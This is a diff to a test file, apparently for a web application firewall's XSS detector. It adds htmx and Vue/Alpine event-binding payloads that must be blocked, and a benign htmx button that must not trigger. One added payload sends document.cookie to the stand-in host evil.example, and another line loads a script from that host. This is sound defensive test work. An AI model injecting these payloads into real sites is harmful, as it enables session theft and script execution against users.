@@ -24,6 +24,11 @@ function describe(findings: Finding[]): string {
 
 // [value, paranoia at which it must block (score >= 5)]. Values are as the engine hands them over: decoded.
 const ATTACKS: Array<[string, Paranoia]> = [
+  // htmx and Vue/Alpine event bindings run their values as script
+  ['<div hx-get="/x" hx-trigger="load" hx-on::before-request="alert(document.domain)">', 1],
+  ['<button hx-on:click="fetch(\'//evil.example/?c=\'+document.cookie)">click</button>', 1],
+  ['<img src=x v-bind:onerror="alert(1)">', 1],
+  ['<img src=x :onerror="alert(1)">', 1],
   // <script> in all its spellings
   ['<script>alert(document.domain)</script>', 1],
   ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 1],
@@ -236,6 +241,7 @@ const ATTACKS: Array<[string, Paranoia]> = [
 
 // Text that looks dangerous but is not: nothing may fire at paranoia 1.
 const BENIGN: string[] = [
+  '<button hx-on:click="toggle()">menu</button>',
   'Please select one option from the list below.',
   // an SVG logo embedding a PNG, as design tools export them
   '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/></svg>',
